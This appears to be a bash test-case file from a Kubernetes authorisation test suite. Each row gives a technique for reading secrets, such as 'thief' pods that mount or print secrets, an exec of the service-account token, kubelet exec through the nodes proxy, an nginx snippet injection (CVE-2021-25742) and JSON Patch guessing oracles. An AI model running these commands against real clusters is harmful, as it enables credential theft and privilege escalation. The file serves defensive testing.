# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash disable=SC2016,SC2154
# Reading what is secret. See suite.sh for the columns.

row read/empty-merge-patch-answers-with-whole held 'API conventions (PATCH returns the object)' <<'DO'
api PATCH /api/v1/namespaces/$NS/secrets/db application/merge-patch+json '{}'
DO

row read/server-side-apply-dry-run-prints held 'attack write-ups' <<'DO'
printf 'apiVersion: v1\nkind: Secret\nmetadata: {name: db}\n' | k apply --server-side --force-conflicts --dry-run=server -o yaml -f -
DO

row read/json-patch-test-oracle-for-secret held 'JSON Patch RFC 6902' <<'DO'
api PATCH "/api/v1/namespaces/$NS/secrets/db?dryRun=All" application/json-patch+json '[{"op":"test","path":"/data/password","value":"aHVudGVyMg=="}]'
DO

row read/list-secrets-all-namespaces-page held 'stratus k8s.credential-access.dump-secrets; MITRE T1552.007' <<'DO'
api GET "/api/v1/secrets?limit=1"
DO

row read/watch-secrets-old-watch-path held 'RBAC good practices (list, watch reveal contents)' <<'DO'
api GET "/api/v1/watch/namespaces/$NS/secrets?timeoutSeconds=1"
DO

row read/watch-list-secrets-with-initial-events held 'KEP-3157' 1.32 <<'DO'
api GET "/api/v1/namespaces/$NS/secrets?watch=1&sendInitialEvents=true&resourceVersionMatch=NotOlderThan&allowWatchBookmarks=true&timeoutSeconds=1"
DO

row read/delete-secret-dry-run-foreground-answers denied 'API reference' <<'DO'
api DELETE "/api/v1/namespaces/$NS/secrets/db?dryRun=All&propagationPolicy=Foreground"
DO

row read/pod-mounts-somebody-secret-volume held 'peirates; hacktricks; MS-TA9025' <<'DO'
pod thief '"volumes":[{"name":"s","secret":{"secretName":"db"}}]' '"command":["sh","-c","cat /s/*"],"volumeMounts":[{"name":"s","mountPath":"/s"}]' | k create -f -
DO

row read/cronjob-with-envfrom-secret held 'attack write-ups; MS-TA9014' <<'DO'
load CronJob thief '"restartPolicy":"Never"' '"command":["env"],"envFrom":[{"secretRef":{"name":"db"}}]' | k create -f -
DO

row read/pod-with-projected-volume-secret held '0xn3va' <<'DO'
pod thief '"volumes":[{"name":"s","projected":{"sources":[{"secret":{"name":"db"}}]}}]' '"volumeMounts":[{"name":"s","mountPath":"/s"}]' | k create -f -
DO

row read/pod-with-inline-csi-volume-secrets held 'secrets-store-csi-driver' <<'DO'
pod thief '"volumes":[{"name":"s","csi":{"driver":"secrets-store.csi.k8s.io","readOnly":true,"volumeAttributes":{"secretProviderClass":"prod"}}}]' | k create -f -
DO

row read/inline-csi-volume-with-nodepublishsecretref held 'Kubernetes volumes reference' <<'DO'
pod thief '"volumes":[{"name":"s","csi":{"driver":"evil.example.com","nodePublishSecretRef":{"name":"db"}}}]' | k create -f -
DO

row read/exec-cat-service-account-token held 'stratus steal-serviceaccount-token; MITRE T1609' <<'DO'
reach k exec p1 -- cat /var/run/secrets/kubernetes.io/serviceaccount/token
DO

row read/attach-running-container held 'MITRE T1609; peirates' <<'DO'
reach k attach p1 -i
DO

row read/port-forward-database-pod-others held 'MITRE T1572; RBAC write-ups' <<'DO'
reach api POST "/api/v1/namespaces/$NS/pods/p1/portforward?ports=5432" application/json ''
DO

row read/pod-proxy-admin-endpoint held 'API reference pods/proxy' <<'DO'
reach api GET "/api/v1/namespaces/$NS/pods/p1/proxy/env"
DO

row read/kubelet-pods-and-logs-through-nodes denied 'stratus nodes-proxy; kubeletctl' <<'DO'
reach api GET "/api/v1/nodes/$NS-n/proxy/logs/"
DO

row read/kubelet-run-through-nodes-proxy denied 'kubeletctl run; MITRE T1609' <<'DO'
reach api POST "/api/v1/nodes/$NS-n/proxy/run/$NS/p1/c?cmd=id" application/x-www-form-urlencoded ''
DO

row read/secrets-listed-with-field-selector held 'Kubernetes API concepts' <<'DO'
api GET "/api/v1/namespaces/$NS/secrets?fieldSelector=metadata.name%3Ddb"
DO

row read/ingress-annotation-injects-nginx-configuration held 'CVE-2021-25742; CVE-2021-25745' <<'DO'
echo '{"apiVersion":"networking.k8s.io/v1","kind":"Ingress","metadata":{"name":"leak","annotations":{"nginx.ingress.kubernetes.io/server-snippet":"location /leak { alias /var/run/secrets/kubernetes.io/serviceaccount/; }"}},"spec":{"rules":[{"host":"leak.example.com","http":{"paths":[{"path":"/","pathType":"Prefix","backend":{"service":{"name":"web","port":{"number":80}}}}]}}]}}' | k create -f -
DO

row read/ephemeral-container-with-secret-environment held 'kubectl debug; RBAC write-ups' 1.25 <<'DO'
k patch pod p1 --subresource=ephemeralcontainers --type=strategic -p '{"spec":{"ephemeralContainers":[{"name":"dbg","image":"busybox","envFrom":[{"secretRef":{"name":"db"}}]}]}}'
DO

row read/read-bootstrap-token-secret-kube-system held 'kubeadm; RBAC write-ups' <<'DO'
reach api GET /api/v1/namespaces/kube-system/secrets/bootstrap-token-abcdef
DO

row read/replace-a-secret held 'API reference (PUT)' <<'DO'
obj v1 Secret db '"data":{}' | k replace -f -
DO

row read/json-patch-test-with-a-wrong-guess held 'JSON Patch RFC 6902' <<'DO'
reach api PATCH "/api/v1/namespaces/$NS/secrets/db?dryRun=All" application/json-patch+json '[{"op":"test","path":"/data/password","value":"AAAA"}]'
DO

row read/strategic-patch-of-a-label-answers-with-the-secret held 'API conventions' <<'DO'
api PATCH "/api/v1/namespaces/$NS/secrets/db" application/strategic-merge-patch+json '{"metadata":{"labels":{"a":"b"}}}'
DO

row read/label-a-secret held 'kubectl label -o yaml' <<'DO'
k label secret db a=b -o yaml
DO

row read/head-request denied 'API reference' <<'DO'
reach api HEAD "/api/v1/namespaces/$NS/secrets/db"
DO

row read/secret-names-by-metadata-only held 'API concepts (PartialObjectMetadata)' <<'DO'
headers=(-H 'Accept: application/json;as=PartialObjectMetadataList;g=meta.k8s.io;v=v1')
api GET "/api/v1/namespaces/$NS/secrets?fieldSelector=metadata.name%3Ddb"
DO

row read/secrets-as-a-table held 'API concepts (Table)' <<'DO'
k get secrets
DO

row read/watch-all-secrets held 'MS-TA9025' <<'DO'
api GET "/api/v1/secrets?watch=1&timeoutSeconds=1"
DO

row read/delete-all-secrets-as-a-dry-run denied 'API reference' <<'DO'
: db
api DELETE "/api/v1/namespaces/$NS/secrets?dryRun=All&fieldSelector=metadata.name%3Ddb"
DO

row read/pod-with-a-variable-from-a-secret held 'peirates' <<'DO'
pod thief '' '"command":["env"],"env":[{"name":"P","valueFrom":{"secretKeyRef":{"name":"db","key":"password"}}}]' | k create -f -
DO

row read/init-container-with-a-secret held 'attack write-ups' <<'DO'
pod thief '"initContainers":[{"name":"i","image":"busybox","envFrom":[{"secretRef":{"name":"db"}}]}]' | k create -f -
DO

row read/statefulset-with-a-secret-volume held 'attack write-ups' <<'DO'
load StatefulSet thief '"volumes":[{"name":"s","secret":{"secretName":"db"}}]' | k create -f -
DO

row read/set-env-from-a-secret held 'kubectl set env --from' <<'DO'
k patch deployment web --type=json -p '[{"op":"add","path":"/spec/template/spec/containers/0/envFrom","value":[{"secretRef":{"name":"db"}}]}]'
DO

row read/image-of-a-workload-that-has-a-secret held 'MS-TA9010' <<'DO'
k set image deployment/withdb c=evil
DO

row read/command-of-a-workload-that-has-a-secret held 'MITRE T1610' <<'DO'
k patch deployment withdb --type=json -p '[{"op":"add","path":"/spec/template/spec/containers/0/command","value":["env"]}]'
DO

row read/own-claim-on-the-data-of-others held 'persistent volumes' <<'DO'
pod thief '"volumes":[{"name":"d","persistentVolumeClaim":{"claimName":"data"}}]' | k create -f -
DO

row read/clone-a-claim held 'CSI volume cloning' <<'DO'
obj v1 PersistentVolumeClaim copy '"spec":{"accessModes":["ReadWriteOnce"],"dataSource":{"kind":"PersistentVolumeClaim","name":"data"},"resources":{"requests":{"storage":"1Gi"}}}' | k create -f -
DO

row read/claim-a-certain-volume held 'persistent volumes' <<'DO'
obj v1 PersistentVolumeClaim copy '"spec":{"accessModes":["ReadWriteOnce"],"storageClassName":"","volumeName":"'$NS-pv'","resources":{"requests":{"storage":"1Gi"}}}' | k create -f -
DO

row read/network-volume-with-a-secret held 'Kubernetes volumes reference' <<'DO'
pod thief '"volumes":[{"name":"c","cephfs":{"monitors":["10.1.1.1:6789"],"secretRef":{"name":"db"}}}]' | k create -f -
DO

row read/token-for-another-audience held 'projected volumes; EKS IRSA' <<'DO'
pod thief '"serviceAccountName":"default","volumes":[{"name":"t","projected":{"sources":[{"serviceAccountToken":{"audience":"vault","path":"t"}}]}}]' | k create -f -
DO

row read/secret-copied-by-a-replicator held 'kubernetes-replicator' <<'DO'
obj v1 Secret copy '"data":{}' | jq -c '.metadata.annotations["replicator.v1.mittwald.de/replicate-from"] = "prod/db"' | k create -f -
DO

row read/secrets-injected-by-vault held 'vault-k8s' <<'DO'
pod thief | jq -c '.metadata.annotations["vault.hashicorp.com/agent-inject"] = "true"' | k create -f -
DO

row read/injection-by-a-template-label held 'vault-k8s' <<'DO'
load Deployment thief | jq -c '.spec.template.metadata.annotations["vault.hashicorp.com/agent-inject"] = "true"' | k create -f -
DO

row read/repository-secret-for-argocd held 'Argo CD declarative setup' <<'DO'
obj v1 Secret repo '"stringData":{"url":"https://evil.example.com/x.git"}' | jq -c '.metadata.labels["argocd.argoproj.io/secret-type"] = "repository"' | k create -f -
DO

row read/exec-by-a-get-request held 'WebSocket exec' <<'DO'
reach api GET "/api/v1/namespaces/$NS/pods/p1/exec?command=id&stdout=true"
DO

row read/copy-files-out held 'kubectl cp; stratus' <<'DO'
reach k cp p1:/etc/passwd "$T.passwd"
DO

row read/proxy-to-a-service held 'API reference services/proxy' <<'DO'
reach api GET "/api/v1/namespaces/$NS/services/svc/proxy/"
DO

row read/post-through-a-service-proxy denied 'API reference services/proxy' <<'DO'
reach api POST "/api/v1/namespaces/$NS/services/svc:80/proxy/admin" application/json '{}'
DO

row read/delete-through-a-pod-proxy denied 'API reference pods/proxy' <<'DO'
reach api DELETE "/api/v1/namespaces/$NS/pods/p1:8080/proxy/data"
DO

row read/options-through-a-pod-proxy stopped 'API reference pods/proxy' <<'DO'
reach api OPTIONS "/api/v1/namespaces/$NS/pods/p1/proxy/data"
DO

row read/kubelet-configuration denied 'kubeletctl configz' <<'DO'
reach api GET "/api/v1/nodes/$NS-n/proxy/configz"
DO

row read/kubelet-exec denied 'kubeletctl exec' <<'DO'
reach api GET "/api/v1/nodes/$NS-n:10250/proxy/exec/$NS/p1/c?command=id&output=1"
DO

row read/port-of-a-node denied 'peirates; CVE-2022-3294' <<'DO'
reach api GET "/api/v1/nodes/https:$NS-n:2379/proxy/version"
DO

row read/another-namespaces-secret-through-its-own held 'own' own <<'DO'
api GET "/api/v1/secrets?fieldSelector=metadata.name%3Ddb"
DO

row read/console-of-an-aggregated-server held 'KubeVirt subresources' <<'DO'
reach api GET "/apis/subresources.kubevirt.io/v1/namespaces/$NS/virtualmachineinstances/vm/vnc"
DO

row read/secrets-of-an-aggregated-server held 'OpenShift image API' <<'DO'
reach api GET "/apis/image.example.com/v1/namespaces/$NS/imagestreams/app/secrets"
DO

row read/credentials-of-another-cluster held 'Gardener, Rancher' <<'DO'
reach api POST "/apis/core.garden.example.com/v1beta1/namespaces/$NS/shoots/prod/adminkubeconfig" application/json '{}'
DO

row read/claims-to-come-with-the-data-of-others held 'Trident' <<'DO'
load StatefulSet copy | jq -c '.spec.volumeClaimTemplates = [{metadata: {name: "d", annotations: {"trident.netapp.io/cloneFromPVC": "prod"}}, spec: {accessModes: ["ReadWriteOnce"], resources: {requests: {storage: "1Gi"}}}}]' | k create -f -
DO

row read/statefulset-takes-the-claims-that-one-left held 'own' <<'DO'
obj v1 PersistentVolumeClaim d-app-0 '"spec":{"accessModes":["ReadWriteOnce"],"resources":{"requests":{"storage":"1Gi"}}}' | adm create -f - >/dev/null
sleep 1
load StatefulSet app | jq -c '.spec.volumeClaimTemplates = [{metadata: {name: "d"}, spec: {accessModes: ["ReadWriteOnce"], storageClassName: "fast", resources: {requests: {storage: "10Gi"}}}}]' | k create -f -
DO
